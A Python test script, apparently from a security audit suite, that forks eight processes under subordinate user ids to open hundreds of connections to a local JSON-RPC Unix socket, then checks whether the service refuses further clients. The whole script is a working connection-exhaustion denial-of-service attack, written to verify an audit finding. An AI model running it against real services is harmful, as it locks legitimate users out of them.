"""Takes all connections as eight users without rights, as one user with subordinate ids can. Run it as
root, or by `unshare --user --map-auto --map-root-user` (package uidmap).

Findings: A.6, M5

subuids.py SOCKET
"""

import os
import signal
import socket
import sys

import attack

path = sys.argv[1]


def hold(uid, told):
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    held = []
    for _ in range(255):
        end = socket.socket(socket.AF_UNIX)
        end.settimeout(5)
        try:
            end.connect(path)
            end.sendall(b'{"jsonrpc":"2.0","id":1,"method":"system.status"}\n')
            if b'"result"' in end.recv(4096):
                held.append(end)
        except OSError:
            pass
    os.write(told, len(held).to_bytes(4, "little"))
    signal.pause()


children, total = [], 0
try:
    for number in range(8):
        heard, told = os.pipe()
        child = os.fork()
        if child == 0:
            try:
                hold(200_001 + number, told)
            except PermissionError:
                os.write(told, (1 << 31).to_bytes(4, "little"))
            os._exit(0)
        children.append(child)
        total += int.from_bytes(os.read(heard, 4), "little")
    if total >= 1 << 31:
        attack.impossible("this user cannot become another one")
    try:
        reply = attack.Connection(path, timeout=10).reply("system.status")
    except (OSError, ConnectionError) as error:
        attack.succeeded(f"{total} connections of eight users keep everybody out: {error}")
    if "result" not in reply:
        attack.succeeded(f"{total} connections of eight users keep everybody out: {reply}")
    if total > 256:
        attack.succeeded(f"users without rights have {total} connections")
    attack.refused(f"unauthorized_connections: eight users without rights have {total} together")
finally:
    for child in children:
        os.kill(child, signal.SIGKILL)
